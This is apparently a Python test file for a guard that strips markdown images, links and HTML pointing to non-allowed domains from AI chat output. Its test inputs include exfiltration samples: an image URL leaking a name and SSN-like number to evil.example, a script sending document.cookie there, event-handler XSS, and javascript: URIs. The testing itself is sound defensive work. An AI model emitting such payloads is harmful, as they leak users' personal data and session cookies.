"""Unsafe rendering: links, images and HTML to non-allowed domains are neutralised."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from confide.guards.base import GuardContext
from confide.guards.rendering import RenderingGuard
from confide.verdict import Action, Channel

GUARD = RenderingGuard(allowed_domains=["riverside.example", "nhs.uk"])
CTX = GuardContext(Channel.OUTPUT, "")
MD = MarkdownIt("commonmark")


def rendered_urls(text: str) -> list[str]:
    """Every URL a CommonMark renderer would link or fetch."""
    urls: list[str] = []
    for tok in MD.parse(text):
        for child in tok.children or ():
            if child.type == "link_open":
                urls.append(str(child.attrGet("href")))
            if child.type == "image":
                urls.append(str(child.attrGet("src")))
    return urls


def test_exfiltration_image_removed() -> None:
    text = "Done! ![x](https://evil.example/?q=Jane%20Doe%20123-45-6789)"
    v = GUARD.check(text, CTX)
    assert v.action is Action.TRANSFORM and "output.unsafe_render" in v.reasons
    assert v.text is not None and "evil.example" not in v.text
    assert v.entities and text[v.entities[0].start:v.entities[0].end].startswith("![x]")


def test_allowed_domains_and_subdomains_pass() -> None:
    text = ("See [our page](https://www.riverside.example/care) and "
            "![logo](https://cdn.riverside.example/l.png), or https://nhs.uk/conditions.")
    v = GUARD.check(text, CTX)
    assert v.action is Action.ALLOW and v.text is None


def test_lookalike_domains_are_not_allowed() -> None:
    for url in ["https://riverside.example.evil.example/x", "https://evilriverside.example/",
                "https://riverside.example@evil.example/", "https://evil.example\\@riverside.example",
                "//evil.example/a.png"]:
        v = GUARD.check(f"![i]({url})", CTX)
        assert v.action is Action.TRANSFORM, url
        assert rendered_urls(v.text or "") == []


def test_links_reference_autolink_and_bare_urls() -> None:
    text = ("Click [here](https://evil.example/login \"t\").\n\n[ref]: https://evil.example/r\n\n"
            "See ![a][ref] and [b][ref], <https://evil.example/a> or www.evil.example/b.")
    v = GUARD.check(text, CTX)
    assert v.action is Action.TRANSFORM
    assert v.text is not None and "evil.example" not in v.text
    assert "here" in v.text  # the link text is kept


def test_script_iframe_and_event_handlers_removed() -> None:
    text = ("<script>fetch('https://evil.example/'+document.cookie)</script>Hello "
            "<img src=x onerror=alert(1)> <iframe src='https://evil.example'></iframe>"
            "<b onclick=\"steal()\">bold</b>")
    v = GUARD.check(text, CTX)
    assert v.action is Action.TRANSFORM and "output.unsafe_render.html" in v.reasons
    out = v.text or ""
    for bad in ("<script", "onerror", "<iframe", "onclick", "evil.example"):
        assert bad not in out
    assert "Hello" in out and "bold" in out


def test_javascript_and_data_uris_never_allowed() -> None:
    guard = RenderingGuard(allowed_domains=["evil.example"])
    for text in ["[x](javascript:alert(1))", "[y](JaVaScRiPt&#58;alert(1))",
                 "![d](data:image/png;base64,AAAA)", "[z](vbscript:msgbox)"]:
        v = guard.check(text, CTX)
        assert v.action is Action.TRANSFORM, text
        assert rendered_urls(v.text or "") == []


def test_plain_text_and_math_are_untouched() -> None:
    for text in ["Your appointment is Monday at 10am.", "If x < 5 and y > 3, see note [1].",
                 "Relative link: [form](/forms/claim.pdf)", "Email us at help@riverside.example"]:
        assert GUARD.check(text, CTX).action is Action.ALLOW, text


def test_reasons_never_carry_urls() -> None:
    v = GUARD.check("![x](https://evil.example/?q=secret-value)", CTX)
    assert "secret-value" not in repr(v.reasons) + repr(v.entities) + repr(v.scores)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_arbitrary_unicode_never_crashes(text: str) -> None:
    v = GUARD.check(text, CTX)
    for e in v.entities:
        assert 0 <= e.start < e.end <= len(text)
    if v.action is Action.TRANSFORM:
        assert all(GUARD.url_allowed(u) for u in rendered_urls(v.text or ""))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["![a](", "[b](", "https://evil.example/", ")", "]", "[", "<",
                                 ">", "script", "img src=x onerror=y", " ", "\n", "www.",
                                 "riverside.example", "javascript:", "\"t\"", "(", "!"]),
                max_size=25))
def test_markup_soup_never_renders_a_foreign_url(parts: list[str]) -> None:
    text = "".join(parts)
    v = GUARD.check(text, CTX)
    out = v.text if v.action is Action.TRANSFORM else text
    assert all(GUARD.url_allowed(u) for u in rendered_urls(out or ""))
    html_tokens = [t for t in MD.parse(out or "") if t.type == "html_block"]
    assert not html_tokens
